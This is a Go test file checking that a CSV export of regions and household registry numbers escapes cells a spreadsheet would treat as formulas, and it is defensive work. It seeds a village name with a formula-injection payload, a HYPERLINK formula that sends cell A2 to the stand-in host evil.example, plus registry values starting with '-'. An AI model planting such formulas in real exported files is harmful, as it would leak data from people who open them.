package site_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// TestExportCSVNeutralisesFormulas: a village or registry number that a
// spreadsheet would run as a formula is exported with a leading apostrophe.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	r := newRptWorld(t)
	r.paid(t, 1)
	const village = `=HYPERLINK("http://evil.example/?leak="&A2,"详情")`
	for _, q := range []string{`UPDATE regions SET name = $1 WHERE code = $2`,
		`UPDATE households SET registry_no = '-A1' WHERE registry_no = 'T000' AND $1 <> $2`,
		`UPDATE households SET registry_no = '-2-3' WHERE registry_no = 'T001' AND $1 <> $2`} {
		if _, err := r.s.DB.Pool.Exec(t.Context(), q, village, r.village); err != nil {
			t.Fatal(err)
		}
	}
	res := r.hotan.Do("GET", "/api/v1/attribution/export?region=653224&format=csv", nil)
	if res.Status != 200 {
		t.Fatalf("export: %d %s", res.Status, res.Body)
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(res.Body, []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 4 {
		t.Fatalf("rows %q", rows)
	}
	registry := map[string]bool{}
	for _, row := range rows[1:] {
		registry[row[0]] = true
		if row[2] != "'"+village {
			t.Errorf("village cell %q, want it behind an apostrophe", row[2])
		}
		for i, cell := range row {
			if strings.IndexAny(cell[:min(len(cell), 1)], "=+@") == 0 || (strings.HasPrefix(cell, "-") && i < 6) {
				t.Errorf("cell %d %q would run as a formula", i, cell)
			}
		}
	}
	if !registry["'-A1"] || !registry["'-2-3"] || !registry["T002"] {
		t.Errorf("registry numbers %v", registry)
	}
}
